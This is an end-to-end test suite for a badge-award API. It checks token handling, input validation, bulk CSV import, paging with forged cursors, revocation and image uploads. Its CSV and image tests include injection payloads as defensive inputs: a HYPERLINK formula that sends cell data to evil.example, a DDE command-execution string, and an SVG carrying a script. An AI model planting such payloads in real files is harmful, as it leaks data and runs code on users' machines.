import { readFileSync } from 'node:fs';
import { GetSecretValueCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
import type { APIGatewayProxyEventV2, Context } from 'aws-lambda';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { commands } from '../../cli/commands.js';
import { composeApiRuntime } from '../../functions/shared/composition.js';
import { createApiHandler } from '../../shared/api/api-handler.js';
import { parseCsv } from '../../shared/api/csv.js';
import { encodeCursor, queryFingerprint } from '../../shared/api/cursor.js';
import { apiRoutes } from '../../shared/api/routes/index.js';
import { signIngestRequest } from '../../shared/ingest/index.js';
import { httpDocumentFetcher } from '../../shared/ports/fetcher.js';
import { verify } from '../../shared/verify/index.js';
import { type ApiCloud, type CallResult, eventually, startApiCloud } from './support/api-cloud.js';

/**
 * The organiser API end to end: every request goes through the local HTTP API (JWT authorizer included) to the
 * unchanged api function, and awards are issued by the award function from the commands it receives.
 */
let env: ApiCloud;
let organizer: string;
let admin: string;
const witnessPng = readFileSync(new URL('../../shared/assets/badges/witness.png', import.meta.url));

beforeAll(async () => {
  env = await startApiCloud();
  [organizer, admin] = await Promise.all([env.token('organizer'), env.token('admin')]);
});

afterAll(async () => {
  await env?.stop();
});

const fieldsOf = (result: CallResult): string[] =>
  (result.body?.error?.fields ?? []).map((problem: { field: string }) => problem.field);

async function awardPublished(awardId: string) {
  return eventually(
    async () => {
      const result = await env.call('GET', `/v1/awards/${awardId}`, { token: organizer });
      return result.body?.status === 'published' ? result.body : undefined;
    },
    90_000,
    `award ${awardId} published`,
  );
}

const AWARD_ID = '00000000-0000-8000-8000-000000000000';
/** One request per operation behind a token, with input that is valid and input that is not (and the field at fault). */
const SAMPLES: Record<
  string,
  {
    path: string;
    valid?: { json?: unknown; query?: string };
    malformed: { json?: unknown; query?: string; path?: string };
    field: string;
  }
> = {
  createAward: {
    path: '/v1/awards',
    valid: { json: { badge: 'witness', email: 'x@example.org' } },
    malformed: { json: { badge: 'witness', email: 'no-at-sign' } },
    field: 'email',
  },
  listAwards: { path: '/v1/awards', malformed: { query: '?status=lost' }, field: 'status' },
  bulkAwards: {
    path: '/v1/awards/bulk',
    valid: { json: { rows: [{ badge: 'witness', email: 'x@example.org' }] } },
    malformed: { json: { rows: [] } },
    field: 'rows',
  },
  getAward: { path: `/v1/awards/${AWARD_ID}`, malformed: { path: '/v1/awards/not-an-id' }, field: 'awardId' },
  revokeAward: {
    path: `/v1/awards/${AWARD_ID}/revoke`,
    valid: { json: { reason: 'test' } },
    malformed: { json: { reason: '' } },
    field: 'reason',
  },
  reissueAward: {
    path: `/v1/awards/${AWARD_ID}/reissue`,
    valid: { json: { email: 'y@example.org' } },
    malformed: { json: { email: 'y' } },
    field: 'email',
  },
  listBadgeClasses: { path: '/v1/badge-classes', malformed: { query: '?sort=name' }, field: 'sort' },
  getBadgeClass: {
    path: '/v1/badge-classes/witness',
    malformed: { path: '/v1/badge-classes/Not_A_Slug' },
    field: 'slug',
  },
  createBadgeClass: {
    path: '/v1/badge-classes',
    valid: {
      json: { slug: 'x', name: 'X', description: 'x', criteria: 'x', image: witnessPng.toString('base64') },
    },
    malformed: { json: { slug: 'x', description: 'x', criteria: 'x', image: witnessPng.toString('base64') } },
    field: 'name',
  },
  updateBadgeClass: {
    path: '/v1/badge-classes/witness',
    valid: { json: { name: 'Witness' } },
    malformed: { json: { tags: 'one' } },
    field: 'tags',
  },
  listRules: { path: '/v1/rules', malformed: { query: '?all=1' }, field: 'all' },
  createRule: {
    path: '/v1/rules',
    valid: { json: { ruleId: 'r-x', badge: 'witness', roles: ['attended'] } },
    malformed: { json: { ruleId: 'r-x', badge: 'witness', roles: ['danced'] } },
    field: 'roles.0',
  },
  updateRule: {
    path: '/v1/rules/citizen21-witness',
    valid: { json: { badge: 'witness', roles: ['attended'] } },
    malformed: { json: { badge: 'witness', roles: [] } },
    field: 'roles',
  },
};

describe('access to every operation', () => {
  const protectedRoutes = apiRoutes().filter((route) => route.access !== 'public');

  it('has a sample request for every operation behind a token', () => {
    expect(protectedRoutes.map((route) => route.operationId).sort()).toEqual(Object.keys(SAMPLES).sort());
  });

  it('answers 401 without a token, with a foreign, expired or misaddressed token', async () => {
    const [foreign, expired, otherAudience] = await Promise.all([
      env.foreignToken(),
      env.customToken({ scope: 'organizer admin' }, { expiresInSeconds: -60 }),
      env.customToken({ scope: 'organizer admin' }, { audience: 'another-api' }),
    ]);
    for (const route of protectedRoutes) {
      const sample = SAMPLES[route.operationId] as (typeof SAMPLES)[string];
      for (const token of [undefined, foreign, expired, otherAudience, `${organizer.slice(0, -4)}AAAA`]) {
        const result = await env.call(route.method, sample.path, {
          ...(token ? { token } : {}),
          json: sample.valid?.json,
        });
        expect(result.status, `${route.operationId} with ${token ? 'a bad token' : 'no token'}`).toBe(401);
      }
    }
  });

  it('answers 403 to a caller without the role the operation needs', async () => {
    const noRole = await env.customToken({ scope: 'openid', 'cognito:groups': ['staff'] });
    for (const route of protectedRoutes) {
      const sample = SAMPLES[route.operationId] as (typeof SAMPLES)[string];
      const token = route.access === 'admin' ? organizer : noRole;
      const result = await env.call(route.method, `${sample.path}${sample.valid?.query ?? ''}`, {
        token,
        json: sample.valid?.json,
      });
      expect(result.status, route.operationId).toBe(403);
      expect(result.body.error.code).toBe('FORBIDDEN');
    }
  });

  it('answers 400 naming the field for malformed input', async () => {
    for (const route of protectedRoutes) {
      const sample = SAMPLES[route.operationId] as (typeof SAMPLES)[string];
      const path = `${sample.malformed.path ?? sample.path}${sample.malformed.query ?? ''}`;
      const result = await env.call(route.method, path, { token: admin, json: sample.malformed.json });
      expect(result.status, `${route.operationId}: ${result.text}`).toBe(400);
      expect(fieldsOf(result), route.operationId).toContain(sample.field);
    }
  });

  it('checks the token in the function too, when the gateway is bypassed', async () => {
    const fn = env.cloud.config.functions.find((candidate) => candidate.environment.JWT_ISSUER !== undefined);
    const awsEnvironment = {
      AWS_REGION: env.cloud.endpoints.region,
      AWS_ACCESS_KEY_ID: 'S3RVER',
      AWS_SECRET_ACCESS_KEY: 'S3RVER',
      AWS_ENDPOINT_URL_DYNAMODB: env.cloud.endpoints.dynamodb,
      AWS_ENDPOINT_URL_S3: env.cloud.endpoints.s3,
      AWS_ENDPOINT_URL_EVENTBRIDGE: env.cloud.endpoints.eventbridge,
    };
    Object.assign(process.env, awsEnvironment);
    const handler = createApiHandler(composeApiRuntime({ ...fn?.environment, ...awsEnvironment }), {
      info: () => undefined,
      warn: () => undefined,
      error: () => undefined,
    });
    const invoke = async (authorization: string | undefined) => {
      const event = {
        version: '2.0',
        routeKey: 'ANY /v1/{proxy+}',
        rawPath: '/v1/badge-classes',
        rawQueryString: '',
        headers: authorization ? { authorization } : {},
        requestContext: { http: { method: 'GET', path: '/v1/badge-classes' }, requestId: 'direct' },
        isBase64Encoded: false,
      } as unknown as APIGatewayProxyEventV2;
      const result = (await handler(event, {
        getRemainingTimeInMillis: () => 10_000,
      } as unknown as Context)) as {
        statusCode: number;
        body: string;
      };
      return {
        status: result.statusCode,
        code: (JSON.parse(result.body) as { error?: { code: string } }).error?.code,
      };
    };
    const noRole = await env.customToken({ scope: 'openid' });
    expect(await invoke(undefined)).toEqual({ status: 401, code: 'UNAUTHORIZED' });
    expect(await invoke(`Bearer ${await env.foreignToken()}`)).toEqual({ status: 401, code: 'UNAUTHORIZED' });
    expect(
      await invoke(`Bearer ${await env.customToken({ scope: 'organizer' }, { expiresInSeconds: -5 })}`),
    ).toEqual({ status: 401, code: 'UNAUTHORIZED' });
    expect(
      await invoke(`Bearer ${await env.customToken({ scope: 'organizer' }, { audience: 'elsewhere' })}`),
    ).toEqual({ status: 401, code: 'UNAUTHORIZED' });
    expect(await invoke(`Bearer ${noRole}`)).toEqual({ status: 403, code: 'FORBIDDEN' });
    expect(await invoke(`Bearer ${organizer}`)).toEqual({ status: 200, code: undefined });
  });

  it('serves the OpenAPI document without a token, and refuses unknown routes, methods, media types and large bodies', async () => {
    const openapi = await env.call('GET', '/openapi.json');
    expect(openapi.status).toBe(200);
    expect(openapi.body.openapi).toBe('3.1.0');
    expect((await env.call('GET', '/v1/nothing', { token: organizer })).body.error.code).toBe(
      'ROUTE_NOT_FOUND',
    );
    const wrongMethod = await env.call('DELETE', '/v1/awards', { token: organizer });
    expect([wrongMethod.status, wrongMethod.headers.get('allow')]).toEqual([405, 'GET, POST']);
    const text = await env.call('POST', '/v1/awards', {
      token: organizer,
      body: 'badge=witness',
      contentType: 'text/plain',
    });
    expect([text.status, text.body.error.code]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
    const large = await env.call('POST', '/v1/awards', {
      token: organizer,
      json: { badge: 'witness', email: 'a@example.org', narrative: 'x'.repeat(70_000) },
    });
    expect([large.status, large.body.error.code]).toEqual([413, 'PAYLOAD_TOO_LARGE']);
    const notJson = await env.call('POST', '/v1/awards', {
      token: organizer,
      body: '{"badge":',
      contentType: 'application/json',
    });
    expect([notJson.status, notJson.body.error.code]).toEqual([400, 'BODY_NOT_JSON']);
  });
});

describe('`badges token`', () => {
  async function printed(run: () => Promise<number>): Promise<{ code: number; output: string }> {
    const write = process.stdout.write.bind(process.stdout);
    let output = '';
    process.stdout.write = ((chunk: string) => {
      output += chunk;
      return true;
    }) as typeof process.stdout.write;
    try {
      return { code: await run(), output };
    } finally {
      process.stdout.write = write;
    }
  }

  it('prints a token the running local cloud accepts, with the API URL', async () => {
    const { code, output } = await printed(() =>
      (commands.token as NonNullable<(typeof commands)['token']>).run(
        { role: 'admin', 'data-dir': env.dataDir },
        [],
      ),
    );
    expect(code).toBe(0);
    const printedToken = JSON.parse(output) as { token: string; api: string; role: string };
    expect([printedToken.api, printedToken.role]).toEqual([env.api, 'admin']);
    const rules = await env.call('GET', '/v1/rules', { token: printedToken.token });
    expect(rules.status).toBe(200);
  });

  it('refuses an unknown role, and a data directory no local cloud runs on', async () => {
    const run = (values: Record<string, string>) =>
      (commands.token as NonNullable<(typeof commands)['token']>).run(values, []);
    await expect(run({ role: 'root', 'data-dir': env.dataDir })).rejects.toMatchObject({ code: 'USAGE' });
    await expect(run({ role: 'organizer', 'data-dir': `${env.dataDir}-nothing` })).rejects.toMatchObject({
      code: 'LOCAL_CLOUD_NOT_STARTED',
    });
  });
});

describe('awarding one badge', () => {
  it('records the award at once, and the credential the award function publishes verifies from the CDN', async () => {
    const created = await env.call('POST', '/v1/awards', {
      token: organizer,
      json: {
        badge: 'witness',
        email: 'Ada.Lovelace@Example.org',
        name: 'Ada Lovelace',
        narrative: 'Attended the Lisbon course',
      },
    });
    expect(created.status).toBe(201);
    expect(created.body.outcome).toBe('created');
    const { awardId } = created.body.award;
    expect(created.headers.get('location')).toBe(`/v1/awards/${awardId}`);

    const recorded = await env.call('GET', `/v1/awards/${awardId}`, { token: organizer });
    expect(recorded.status).toBe(200);
    expect(recorded.body).toMatchObject({
      awardId,
      badge: 'witness',
      recipient: { email: 'Ada.Lovelace@Example.org', name: 'Ada Lovelace' },
    });

    const published = await awardPublished(awardId);
    expect(Object.keys(published.urls).sort()).toEqual(
      ['assertion', 'credential', 'png'].concat(published.urls.credentialJwt ? ['credentialJwt'] : []).sort(),
    );
    for (const url of Object.values(published.urls) as string[])
      expect(url.startsWith(`${env.publicBaseUrl}/`)).toBe(true);
    const fetcher = httpDocumentFetcher();
    const credential = await verify(new URL(published.urls.credential), {
      fetcher,
      recipientEmail: 'ada.lovelace@example.org',
    });
    expect(credential.checks.filter((check) => check.status === 'failed')).toEqual([]);
    expect([credential.verified, credential.format]).toEqual([true, 'ob3-json']);
    const baked = await verify(new URL(published.urls.png), { fetcher });
    expect(baked.verified).toBe(true);
  });

  it('answers a repeat with the award that exists, and a second badge holder with already-holds', async () => {
    const first = await env.call('POST', '/v1/awards', {
      token: organizer,
      json: { badge: 'innovative-pioneer', email: 'grace@example.org' },
    });
    const again = await env.call('POST', '/v1/awards', {
      token: organizer,
      json: { badge: 'innovative-pioneer', email: 'GRACE@Example.org' },
    });
    expect([first.status, again.status, again.body.outcome]).toEqual([201, 200, 'exists']);
    expect(again.body.award.awardId).toBe(first.body.award.awardId);
    const unknown = await env.call('POST', '/v1/awards', {
      token: organizer,
      json: { badge: 'no-such-badge', email: 'grace@example.org' },
    });
    expect([unknown.status, unknown.body.error.code, fieldsOf(unknown)]).toEqual([
      404,
      'BADGE_NOT_FOUND',
      ['badge'],
    ]);
  });

  it('returns the first response to a retried Idempotency-Key, and refuses the key with another body', async () => {
    const headers = { 'idempotency-key': 'award-7f3a' };
    const first = await env.call('POST', '/v1/awards', {
      token: organizer,
      headers,
      json: { badge: 'witness', email: 'idem@example.org' },
    });
    const retry = await env.call('POST', '/v1/awards', {
      token: organizer,
      headers,
      json: { badge: 'witness', email: 'idem@example.org' },
    });
    expect(first.status).toBe(201);
    expect(retry.status).toBe(201);
    expect(retry.body).toEqual(first.body);
    expect(retry.headers.get('idempotent-replayed')).toBe('true');
    const reused = await env.call('POST', '/v1/awards', {
      token: organizer,
      headers,
      json: { badge: 'witness', email: 'other@example.org' },
    });
    expect([reused.status, reused.body.error.code, fieldsOf(reused)]).toEqual([
      422,
      'IDEMPOTENCY_KEY_REUSED',
      ['Idempotency-Key'],
    ]);
    // Keys belong to their caller: the same key from someone else is a new request.
    const someoneElse = await env.customToken({ sub: 'organizer-2', scope: 'organizer' });
    const theirs = await env.call('POST', '/v1/awards', {
      token: someoneElse,
      headers,
      json: { badge: 'witness', email: 'other@example.org' },
    });
    expect([theirs.status, theirs.body.outcome]).toEqual([201, 'created']);
  });
});

describe('bulk awards', () => {
  it('gives every row of a few hundred its own result, blocks no good row, and loses no accepted one', async () => {
    const held = await env.call('POST', '/v1/awards', {
      token: organizer,
      json: { badge: 'knowledgeable-witness', email: 'held-0@example.org' },
    });
    expect(held.status).toBe(201);
    const rows: unknown[] = [];
    const expected: Array<{ status: string; reason?: string }> = [];
    for (let index = 0; index < 300; index++) {
      if (index % 50 === 7) {
        rows.push({ badge: 'knowledgeable-witness', email: `bulk-${index}` });
        expected.push({ status: 'invalid' });
      } else if (index % 50 === 13) {
        rows.push({ badge: 'no-such-badge', email: `bulk-${index}@example.org` });
        expected.push({ status: 'invalid' });
      } else if (index === 20) {
        rows.push({ badge: 'knowledgeable-witness', email: 'held-0@example.org' });
        expected.push({ status: 'skipped', reason: 'exists' });
      } else if (index === 21) {
        rows.push({ badge: 'knowledgeable-witness', email: 'BULK-3@example.org' });
        expected.push({ status: 'skipped', reason: 'exists' });
      } else {
        rows.push({
          badge: 'knowledgeable-witness',
          email: `bulk-${index}@example.org`,
          name: `Person ${index}`,
        });
        expected.push({ status: 'created' });
      }
    }
    const result = await env.call('POST', '/v1/awards/bulk', { token: organizer, json: { rows } });
    expect(result.status).toBe(200);
    expect(
      result.body.results.map((row: { row: number; status: string; reason?: string }) => ({
        status: row.status,
        ...(row.reason ? { reason: row.reason } : {}),
      })),
    ).toEqual(expected);
    expect(result.body.results.map((row: { row: number }) => row.row)).toEqual(
      rows.map((_, index) => index + 1),
    );
    expect(result.body.summary).toEqual({ created: 286, skipped: 2, invalid: 12, failed: 0 });
    expect(result.body.results[7].fields.map((problem: { field: string }) => problem.field)).toEqual([
      'email',
    ]);
    expect(result.body.results[13].fields.map((problem: { field: string }) => problem.field)).toEqual([
      'badge',
    ]);
    expect(result.body.results[20].awardId).toBe(held.body.award.awardId);
    expect(result.body.results[21].awardId).toBe(result.body.results[3].awardId);

    // Every row reported created has its award recorded, for the person and badge of its row.
    const created = result.body.results.filter((row: { status: string }) => row.status === 'created');
    for (let offset = 0; offset < created.length; offset += 25) {
      const found = await Promise.all(
        created
          .slice(offset, offset + 25)
          .map((row: { awardId: string }) =>
            env.call('GET', `/v1/awards/${row.awardId}`, { token: organizer }),
          ),
      );
      for (const [index, award] of found.entries()) {
        const row = created[offset + index];
        expect([award.status, award.body.recipient.email, award.body.badge], `row ${row.row}`).toEqual([
          200,
          (rows[row.row - 1] as { email: string }).email,
          'knowledgeable-witness',
        ]);
      }
    }
  });

  it('reads CSV, refuses formula cells row by row, and never stores them', async () => {
    const csv = [
      'Email,Name,Badge,Narrative',
      'csv-1@example.org,"Lovelace, Ada",witness,"Spoke about ""open"" recognition"',
      'csv-2@example.org,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",witness,',
      'csv-3@example.org,Bob,witness,@SUM(1+1)*cmd|/C calc!A0',
      '+csv-4@example.org,Carol,witness,',
      'csv-5@example.org,Dan,witness',
      'csv-6@example.org,"Tab",witness,"\tvalue"',
      'csv-7@example.org,Eve,witness,"-2+3"',
      'csv-8@example.org, Frank ,witness,',
    ].join('\r\n');
    const result = await env.call('POST', '/v1/awards/bulk', {
      token: organizer,
      body: csv,
      contentType: 'text/csv; charset=utf-8',
    });
    expect(result.status).toBe(200);
    const byRow = new Map(result.body.results.map((row: { row: number }) => [row.row, row]));
    const summary = (line: number) => {
      const row = byRow.get(line) as { status: string; fields?: Array<{ field: string }> };
      return [row.status, ...(row.fields ?? []).map((problem) => problem.field)];
    };
    expect(summary(2)).toEqual(['created']);
    expect(summary(3)).toEqual(['invalid', 'name']);
    expect(summary(4)).toEqual(['invalid', 'narrative']);
    expect(summary(5)).toEqual(['invalid', 'email']);
    expect(summary(6)).toEqual(['invalid', '(row)']);
    expect(summary(7)).toEqual(['invalid', 'narrative']);
    expect(summary(8)).toEqual(['invalid', 'narrative']);
    expect(summary(9)).toEqual(['created']);
    expect(result.text).not.toContain('HYPERLINK');
    expect(result.text).not.toContain('SUM(');

    const exported = await env.call('GET', '/v1/awards?badge=witness&limit=200&format=csv', {
      token: organizer,
    });
    expect(exported.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const [header, ...records] = parseCsv(exported.text, { maxRecords: 1000, maxFieldLength: 10_000 }).map(
      (record) => record.fields,
    );
    expect(header?.slice(0, 5)).toEqual(['awardId', 'badge', 'status', 'email', 'name']);
    const names = new Map(records.map((record) => [record[3], record[4]]));
    expect(names.get('csv-1@example.org')).toBe('Lovelace, Ada');
    expect(names.get('csv-8@example.org')).toBe('Frank');
    expect(names.has('csv-2@example.org')).toBe(false);
  });

  it('neutralises formula-like values in exports, whatever way they came in', async () => {
    const created = await env.call('POST', '/v1/awards', {
      token: organizer,
      json: { badge: 'innovative-project-builder', email: 'formula@example.org', name: '=1+2' },
    });
    expect(created.status).toBe(201);
    const exported = await env.call('GET', `/v1/awards?email=formula@example.org&format=csv`, {
      token: organizer,
    });
    expect(exported.status).toBe(200);
    expect(exported.text).toContain(",'=1+2,");
    expect(exported.text).not.toMatch(/(^|,)=1\+2/m);
  });

  it('refuses a CSV without the header it documents', async () => {
    const result = await env.call('POST', '/v1/awards/bulk', {
      token: organizer,
      body: 'mail,badge\r\na@example.org,witness\r\n',
      contentType: 'text/csv',
    });
    expect([result.status, result.body.error.code, fieldsOf(result)]).toEqual([
      400,
      'CSV_HEADER_INVALID',
      ['header'],
    ]);
  });
});

describe('searching awards', () => {
  it('filters by email, status and date range, and pages with cursors that only work for their query', async () => {
    const emails = ['page-a@example.org', 'page-b@example.org', 'page-c@example.org'];
    for (const email of emails) {
      const result = await env.call('POST', '/v1/awards', {
        token: organizer,
        json: { badge: 'innovative-pioneer', email },
      });
      expect(result.status).toBe(201);
    }
    // Pages are stable while statuses are: wait until the award function has published these awards.
    await eventually(
      async () => {
        const issuing = await env.call('GET', '/v1/awards?badge=innovative-pioneer&status=issuing', {
          token: organizer,
        });
        return issuing.body.awards.length === 0 ? true : undefined;
      },
      60_000,
      'innovative-pioneer awards published',
    );
    const byEmail = await env.call('GET', '/v1/awards?email=PAGE-B@example.org', { token: organizer });
    expect(
      byEmail.body.awards.map((award: { recipient: { email: string } }) => award.recipient.email),
    ).toEqual(['page-b@example.org']);

    const seen: string[] = [];
    let cursor: string | undefined;
    let pages = 0;
    do {
      const page = await env.call(
        'GET',
        `/v1/awards?badge=innovative-pioneer&limit=2${cursor ? `&cursor=${cursor}` : ''}`,
        { token: organizer },
      );
      expect(page.body.awards.length).toBeLessThanOrEqual(2);
      seen.push(...page.body.awards.map((award: { awardId: string }) => award.awardId));
      cursor = page.body.cursor;
      pages += 1;
    } while (cursor);
    expect(pages).toBeGreaterThan(1);
    expect(new Set(seen).size).toBe(seen.length);
    expect(seen.length).toBeGreaterThanOrEqual(4);

    const first = await env.call('GET', '/v1/awards?badge=innovative-pioneer&limit=1', { token: organizer });
    const other = await env.call('GET', `/v1/awards?badge=witness&limit=1&cursor=${first.body.cursor}`, {
      token: organizer,
    });
    expect([other.status, other.body.error.code, fieldsOf(other)]).toEqual([
      400,
      'CURSOR_INVALID',
      ['cursor'],
    ]);
    const forged = encodeCursor(
      { pk: 'RULE', sk: 'citizen21-witness', gsi2pk: 'BADGE#innovative-pioneer', gsi2sk: 'x' },
      queryFingerprint({
        badge: 'innovative-pioneer',
        email: undefined,
        status: undefined,
        from: undefined,
        to: undefined,
      }),
    );
    const refused = await env.call('GET', `/v1/awards?badge=innovative-pioneer&cursor=${forged}`, {
      token: organizer,
    });
    expect([refused.status, refused.body.error.code]).toEqual([400, 'CURSOR_INVALID']);

    const future = await env.call('GET', '/v1/awards?badge=innovative-pioneer&from=2999-01-01T00:00:00Z', {
      token: organizer,
    });
    expect(future.body.awards).toEqual([]);
    const past = await env.call('GET', '/v1/awards?badge=innovative-pioneer&to=2000-01-01T00:00:00Z', {
      token: organizer,
    });
    expect(past.body.awards).toEqual([]);
    const around = await env.call(
      'GET',
      `/v1/awards?email=page-a@example.org&from=2000-01-01T00:00:00Z&to=2999-01-01T00:00:00Z`,
      { token: organizer },
    );
    expect(around.body.awards).toHaveLength(1);
    const backwards = await env.call('GET', '/v1/awards?from=2030-01-01T00:00:00Z&to=2020-01-01T00:00:00Z', {
      token: organizer,
    });
    expect([backwards.status, fieldsOf(backwards)]).toEqual([400, ['from']]);

    const published = await env.call('GET', '/v1/awards?badge=innovative-pioneer&status=published', {
      token: organizer,
    });
    expect(published.body.awards.map((award: { awardId: string }) => award.awardId).sort()).toEqual(
      [...seen].sort(),
    );
    const revoked = await env.call('GET', '/v1/awards?badge=innovative-pioneer&status=revoked', {
      token: organizer,
    });
    expect(revoked.body.awards).toEqual([]);

    // Without a badge or an email the whole table is walked, page by page, in a stable order.
    const everything: string[] = [];
    let scanCursor: string | undefined;
    do {
      const page = await env.call('GET', `/v1/awards?limit=100${scanCursor ? `&cursor=${scanCursor}` : ''}`, {
        token: organizer,
      });
      expect(page.status).toBe(200);
      everything.push(...page.body.awards.map((award: { awardId: string }) => award.awardId));
      scanCursor = page.body.cursor;
    } while (scanCursor);
    expect(new Set(everything).size).toBe(everything.length);
    expect(everything).toEqual(expect.arrayContaining(seen));
  });
});

describe('revoking and re-issuing', () => {
  it('re-issues to a corrected email: the old award revoked naming the new one, both linked', async () => {
    const original = await env.call('POST', '/v1/awards', {
      token: organizer,
      json: { badge: 'witness', email: 'typo@exmaple.org', name: 'Tess', narrative: 'Attended' },
    });
    const oldId = original.body.award.awardId;
    const reissued = await env.call('POST', `/v1/awards/${oldId}/reissue`, {
      token: organizer,
      json: { email: 'tess@example.org', reason: 'email typo' },
    });
    expect(reissued.status).toBe(201);
    const { previous, replacement } = reissued.body;
    expect(replacement).toMatchObject({
      badge: 'witness',
      replaces: oldId,
      recipient: { email: 'tess@example.org', name: 'Tess' },
      narrative: 'Attended',
    });
    expect(previous).toMatchObject({ awardId: oldId, status: 'revoked', replacedBy: replacement.awardId });
    expect(previous.revocationReason).toContain(replacement.awardId);
    expect(previous.revocationReason).toContain('email typo');

    const again = await env.call('POST', `/v1/awards/${oldId}/reissue`, {
      token: organizer,
      json: { email: 'tess@example.org' },
    });
    expect([again.status, again.body.replacement.awardId]).toEqual([201, replacement.awardId]);
    const elsewhere = await env.call('POST', `/v1/awards/${oldId}/reissue`, {
      token: organizer,
      json: { email: 'someone@example.org' },
    });
    expect([elsewhere.status, elsewhere.body.error.code]).toEqual([409, 'AWARD_ALREADY_REISSUED']);
    const same = await env.call('POST', `/v1/awards/${replacement.awardId}/reissue`, {
      token: organizer,
      json: { email: 'TESS@example.org' },
    });
    expect([same.status, fieldsOf(same)]).toEqual([400, ['email']]);
    expect(
      (await env.call('GET', `/v1/awards/${replacement.awardId}`, { token: organizer })).body.replaces,
    ).toBe(oldId);
  });

  it('revokes with a reason, keeps the first reason, and answers 404 for an unknown award', async () => {
    const award = await env.call('POST', '/v1/awards', {
      token: organizer,
      json: { badge: 'witness', email: 'revoke-me@example.org' },
    });
    const id = award.body.award.awardId;
    const revoked = await env.call('POST', `/v1/awards/${id}/revoke`, {
      token: organizer,
      json: { reason: 'awarded by mistake' },
    });
    expect([revoked.status, revoked.body.status, revoked.body.revocationReason]).toEqual([
      202,
      'revoked',
      'awarded by mistake',
    ]);
    const again = await env.call('POST', `/v1/awards/${id}/revoke`, {
      token: organizer,
      json: { reason: 'another reason' },
    });
    expect([again.status, again.body.revocationReason]).toEqual([202, 'awarded by mistake']);
    const missing = await env.call('POST', `/v1/awards/${AWARD_ID}/revoke`, {
      token: organizer,
      json: { reason: 'x' },
    });
    expect([missing.status, missing.body.error.code]).toEqual([404, 'AWARD_NOT_FOUND']);
    // The revoked address cannot receive a re-issue of the same badge: its award stays revoked.
    const other = await env.call('POST', '/v1/awards', {
      token: organizer,
      json: { badge: 'witness', email: 'misspelt@example.org' },
    });
    const refused = await env.call('POST', `/v1/awards/${other.body.award.awardId}/reissue`, {
      token: organizer,
      json: { email: 'revoke-me@example.org' },
    });
    expect([refused.status, refused.body.error.code, fieldsOf(refused)]).toEqual([
      409,
      'REPLACEMENT_REVOKED',
      ['email'],
    ]);
    expect(
      (await env.call('GET', `/v1/awards/${other.body.award.awardId}`, { token: organizer })).body.status,
    ).not.toBe('revoked');
  });
});

describe('badge classes', () => {
  const esco = {
    targetName: 'promote civic engagement',
    targetUrl: 'http://data.europa.eu/esco/skill/0c4d2cd5-3b4a-4a1a-9a3a-7a3b6d7c8e9f',
    targetFramework: 'ESCO',
    targetCode: '0c4d2cd5-3b4a-4a1a-9a3a-7a3b6d7c8e9f',
  };
  const svg =
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><circle cx="5" cy="5" r="4"/></svg>';

  it('lists the seeded badge classes for organisers, with their public URLs', async () => {
    const listed = await env.call('GET', '/v1/badge-classes', { token: organizer });
    expect(listed.status).toBe(200);
    const slugs = listed.body.badgeClasses.map((badgeClass: { slug: string }) => badgeClass.slug);
    expect(slugs).toEqual(
      expect.arrayContaining([
        'witness',
        'knowledgeable-witness',
        'innovative-pioneer',
        'innovative-project-builder',
      ]),
    );
    const witness = listed.body.badgeClasses.find(
      (badgeClass: { slug: string }) => badgeClass.slug === 'witness',
    );
    expect(witness.urls.achievement).toBe(`${env.publicBaseUrl}/achievements/witness.json`);
    expect((await fetch(witness.urls.image)).status).toBe(200);
  });

  it('creates a badge class with its images and ESCO alignment, and publishes its documents', async () => {
    const created = await env.call('POST', '/v1/badge-classes', {
      token: admin,
      json: {
        slug: 'civic-mentor',
        name: 'Civic Mentor',
        description: 'Mentors new participants',
        criteria: 'Mentored at least two participants through a course',
        tags: ['mentoring'],
        alignment: [esco],
        image: witnessPng.toString('base64'),
        svgImage: Buffer.from(svg).toString('base64'),
      },
    });
    expect(created.status).toBe(201);
    expect(created.body.urls.svgImage).toBe(`${env.publicBaseUrl}/achievements/civic-mentor.svg`);
    const achievement = await (await fetch(created.body.urls.achievement)).json();
    expect(achievement).toMatchObject({
      name: 'Civic Mentor',
      alignment: [{ type: ['Alignment'], ...esco }],
    });
    const badgeClass = await (await fetch(created.body.urls.badgeClass)).json();
    expect(badgeClass).toMatchObject({ type: 'BadgeClass', name: 'Civic Mentor', alignment: [esco] });
    const image = await fetch(created.body.urls.image);
    expect([image.status, image.headers.get('content-type')]).toEqual([200, 'image/png']);
    expect(Buffer.from(await image.arrayBuffer()).equals(witnessPng)).toBe(true);
    const vector = await fetch(created.body.urls.svgImage);
    expect([vector.status, vector.headers.get('content-type'), await vector.text()]).toEqual([
      200,
      'image/svg+xml',
      svg,
    ]);
    const repeat = await env.call('POST', '/v1/badge-classes', {
      token: admin,
      json: {
        slug: 'civic-mentor',
        name: 'x',
        description: 'x',
        criteria: 'x',
        image: witnessPng.toString('base64'),
      },
    });
    expect([repeat.status, repeat.body.error.code]).toEqual([409, 'BADGE_CLASS_EXISTS']);
  });

  it('refuses images that are not a valid PNG, SVG with active content, and oversized images', async () => {
    const base = { slug: 'bad-image', name: 'x', description: 'x', criteria: 'x' };
    const notPng = await env.call('POST', '/v1/badge-classes', {
      token: admin,
      json: { ...base, image: Buffer.from(svg).toString('base64') },
    });
    expect([notPng.status, notPng.body.error.code, fieldsOf(notPng)]).toEqual([
      400,
      'IMAGE_INVALID',
      ['image'],
    ]);
    const truncated = await env.call('POST', '/v1/badge-classes', {
      token: admin,
      json: { ...base, image: witnessPng.subarray(0, 2000).toString('base64') },
    });
    expect([truncated.status, fieldsOf(truncated)]).toEqual([400, ['image']]);
    const scripted = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ).toString('base64');
    const active = await env.call('POST', '/v1/badge-classes', {
      token: admin,
      json: { ...base, image: witnessPng.toString('base64'), svgImage: scripted },
    });
    expect([active.status, active.body.error.code, fieldsOf(active)]).toEqual([
      400,
      'IMAGE_INVALID',
      ['svgImage'],
    ]);
    const huge = await env.call('POST', '/v1/badge-classes', {
      token: admin,
      json: { ...base, image: Buffer.alloc(600 * 1024).toString('base64') },
    });
    expect([huge.status, fieldsOf(huge)]).toEqual([400, ['image']]);
    expect((await env.call('GET', '/v1/badge-classes/bad-image', { token: admin })).status).toBe(404);
  });

